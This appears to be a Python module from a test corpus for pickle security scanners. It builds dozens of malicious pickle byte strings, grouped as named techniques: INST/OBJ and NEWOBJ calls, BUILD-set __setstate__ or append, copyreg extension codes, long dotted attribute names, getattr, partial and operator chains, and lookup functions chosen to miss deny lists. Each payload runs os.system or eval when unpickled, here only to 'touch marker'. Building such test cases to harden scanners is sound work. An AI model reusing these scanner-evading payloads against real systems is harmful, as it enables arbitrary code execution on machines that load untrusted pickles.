"""The ways to call something, and the names that reach it."""

from .kit import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NONE,
    OBJ,
    POP,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TOUCH,
    TUPLE1,
    apply,
    call,
    dic,
    get,
    lst,
    made,
    name,
    num,
    proto,
    put,
    short,
    stack_name,
    technique,
    text,
    tup,
)

CMD = text("touch marker")


@technique("inst-obj", "INST and OBJ call as REDUCE does")
def inst_obj():
    return {
        "inst": b"(S'touch marker'\nios\nsystem\n.",
        "obj": proto(2) + MARK + name("os", "system") + CMD + OBJ + STOP,
        "obj-pop": proto(2) + MARK + name("os", "system") + CMD + OBJ + POP + NONE + STOP,
    }


@technique("newobj-subprocess", "NEWOBJ and NEWOBJ_EX make objects of a class whose __new__ or state acts")
def newobj():
    # zipimport's and map's __new__ take arguments.
    run = call("builtins", "bytes", name("builtins", "map") + tup(name("os", "system"), lst(CMD)) + NEWOBJ)
    ex = name("builtins", "map") + tup(name("os", "system"), lst(CMD)) + EMPTY_DICT + b"\x92"
    return {"map": proto(2) + run + STOP, "map-ex": proto(4) + call("builtins", "list", ex) + STOP}


@technique("build-setstate", "BUILD calls the __setstate__ that an object was given")
def build_setstate():
    # The first BUILD puts os.system where the second looks for a method.
    thing = made("types", "SimpleNamespace", dic(text("__setstate__"), name("os", "system")))
    return proto(2) + thing + CMD + BUILD + STOP


@technique("build-append", "APPEND calls the method append that the state put there")
def build_append():
    return {
        "append": proto(2) + made("types", "SimpleNamespace", dic(text("append"), name("os", "system"))) + CMD + b"a" + STOP,
        "appends": proto(2) + made("argparse", "Namespace", dic(text("append"), name("os", "system"))) + MARK + CMD + b"e" + STOP,
    }


@technique("build-on-module", "BUILD changes the attributes of a module or function, and what calls it later acts")
def build_on_module():
    # UserDict.__setitem__ becomes a bound method of a partial's, and SETITEM runs it.
    def patch(module, member, attribute):
        return name(module, member) + tup(NONE, dic(text(attribute), name("os", "system"))) + BUILD + POP

    stored = call("collections", "UserDict") + put(5) + POP
    return {
        "class": proto(2) + patch("fractions", "Fraction", "__format__") + TOUCH + STOP,
        "function": proto(2) + patch("shlex", "quote", "__wrapped__") + TOUCH + STOP,
        "class-later": proto(2) + patch("collections", "UserDict", "copy") + stored + TOUCH + STOP,
    }


@technique("extension-code", "EXT opcodes name a global by a number that copyreg was given in the same file")
def extension():
    out = {}
    for kind, op, code in ((1, b"\x82\x7f", 0x7F), (2, b"\x83\x34\x12", 0x1234), (4, b"\x84\x01\x00\x02\x00", 0x20001)):
        out[f"ext{kind}"] = (
            proto(2) + call("copyreg", "add_extension", text("os"), text("system"), num(code)) + POP + op + CMD + TUPLE1 + REDUCE + STOP
        )
    out["old-name"] = (
        proto(2) + call("copy_reg", "add_extension", text("os"), text("system"), num(9)) + POP + b"\x82\x09" + CMD + TUPLE1 + REDUCE + STOP
    )
    return out


@technique("dotted-name", "from protocol 4 on a name with dots walks attributes: one module's import reaches another")
def dotted():
    out = {}
    for module, member in (
        ("pathlib", "os.system"),
        ("logging", "os.system"),
        ("random", "_os.system"),
        ("torch", "serialization.os.system"),
        ("builtins", "eval.__call__"),
    ):
        arg = text("__import__('os').system('touch marker')") if module == "builtins" else CMD
        out[f"{module}-{member.split('.')[0]}"] = proto(4) + apply(name(module, member), arg) + STOP
    out["stack"] = proto(4) + apply(stack_name("tarfile", "shutil.os.system"), CMD) + STOP
    return out


@technique("dotted-long", "a name of 70,000 characters: os.path.os.path.os… comes back to itself", own=True)
def dotted_long():
    long = "path." + "genericpath.os.path." * 3500 + "os.system"
    member = text(long)
    return {
        "stack": proto(4) + apply(short("os") + member + STACK_GLOBAL, CMD) + STOP,
        "global": proto(4) + apply(name("os", long), CMD) + STOP,
    }


@technique("dotted-class", "a method of a class that is harmless to name: Path.touch", own=True)
def dotted_class():
    path = call("pathlib", "Path", text("marker"))
    return {
        "touch": proto(4) + apply(stack_name("pathlib", "Path.touch"), path) + STOP,
        "write": proto(4) + apply(stack_name("pathlib", "Path.write_text"), path, text("x")) + STOP,
    }


@technique("old-names", "Python 2's names, which fix_imports maps to today's")
def old_names():
    inner = proto(2) + TOUCH + STOP
    return {
        "builtin": b'c__builtin__\neval\n(S\'__import__("os").system("touch marker")\'\ntR.',
        "commands": b"ccommands\ngetoutput\n(S'touch marker'\ntR.",
        "cpickle": proto(2)
        + apply(name("cPickle", "loads"), call("_codecs", "encode", text(inner.decode("latin1")), text("latin1")))
        + STOP,
        "itertools": proto(2) + call("builtins", "list", call("itertools", "imap", name("os", "system"), lst(CMD))) + STOP,
        "urllib": proto(2) + call("urllib", "urlretrieve", text("file:///dev/null"), text("marker")) + STOP,
        "reduce": proto(2) + call("__builtin__", "reduce", name("os", "system"), EMPTY_TUPLE, CMD) + POP + TOUCH + STOP,
    }


@technique("chain-getattr", "getattr, partial, methodcaller, attrgetter and their like, called one on the other")
def chains():
    os_module = call("importlib", "import_module", text("os"))
    return {
        "getattr": proto(2) + apply(call("builtins", "getattr", os_module, text("system")), CMD) + STOP,
        "import": proto(2) + apply(call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system")), CMD) + STOP,
        "attrgetter": proto(2) + apply(apply(call("operator", "attrgetter", text("system")), os_module), CMD) + STOP,
        "methodcaller": proto(2) + apply(call("_operator", "methodcaller", text("system"), CMD), os_module) + STOP,
        "itemgetter": proto(2)
        + apply(apply(call("operator", "itemgetter", text("system")), call("builtins", "vars", os_module)), CMD)
        + STOP,
        "partial": proto(2) + apply(call("functools", "partial", name("os", "system"), CMD)) + STOP,
        "resolve": proto(2) + apply(call("pkgutil", "resolve_name", text("os:system")), CMD) + STOP,
        "static": proto(2) + apply(call("inspect", "getattr_static", os_module, text("system")), CMD) + STOP,
        "reduce": proto(2) + apply(call("functools", "reduce", name("builtins", "getattr"), tup(text("system")), os_module), CMD) + STOP,
        "ctypes": proto(2) + apply(call("builtins", "getattr", call("ctypes", "CDLL", NONE), text("system")), b"C\x0ctouch marker") + STOP,
    }


@technique("iterated-call", "map, starmap, reduce and filter call when something walks them")
def iterated():
    once = lst(CMD)
    return {
        "map-list": proto(2) + call("builtins", "list", call("builtins", "map", name("os", "system"), once)) + STOP,
        "map-set": proto(2) + call("builtins", "set", call("builtins", "map", name("os", "system"), once)) + STOP,
        "map-bytes": proto(2) + call("builtins", "bytearray", call("builtins", "map", name("os", "system"), once)) + STOP,
        "starmap": proto(2) + call("collections", "deque", call("itertools", "starmap", name("os", "system"), lst(tup(CMD)))) + STOP,
        "filter": proto(2) + call("collections", "Counter", call("builtins", "filter", name("os", "system"), once)) + STOP,
        "dict-update": proto(2) + call("collections", "OrderedDict", call("builtins", "map", name("os", "system"), once)) + STOP,
        "append": proto(2)
        + b"]"
        + call("builtins", "map", name("os", "system"), once)
        + put(0)
        + b"a0"
        + call("builtins", "tuple", get(0))
        + STOP,
    }


@technique("default-factory", "a defaultdict calls its factory for a key that is missing", own=True)
def default_factory():
    # ChainMap asks __missing__; string.Template's substitute looks keys up.
    factory = call("functools", "partial", name("os", "system"), CMD)
    return proto(2) + call("operator", "getitem", call("collections", "defaultdict", factory), num(1)) + STOP


@technique("indirect-call", "library functions that call what they are given", own=True)
def indirect():
    system = name("os", "system")
    return {
        "copy": proto(2) + call("copy", "_reconstruct", NONE, NONE, system, tup(CMD)) + STOP,
        "max": proto(4) + call("heapq", "nlargest", num(1), lst(CMD, CMD), system) + STOP,
        "reduce": proto(2) + call("_functools", "reduce", name("operator", "call"), lst(CMD), system) + STOP,
    }


@technique("resolved-by-text", "functions that find an object by a name in text, in no list of dangerous ones", own=True)
def resolved():
    return {
        "logging": proto(2) + apply(call("logging.config", "_resolve", text("os.system")), CMD) + STOP,
        "pydoc": proto(2) + apply(call("pydoc", "locate", text("os.system")), CMD) + STOP,
        "typing": proto(2)
        + call(
            "typing", "_eval_type", call("typing", "ForwardRef", text("__import__('os').system('touch marker')")), EMPTY_DICT, EMPTY_DICT
        )
        + STOP,
    }
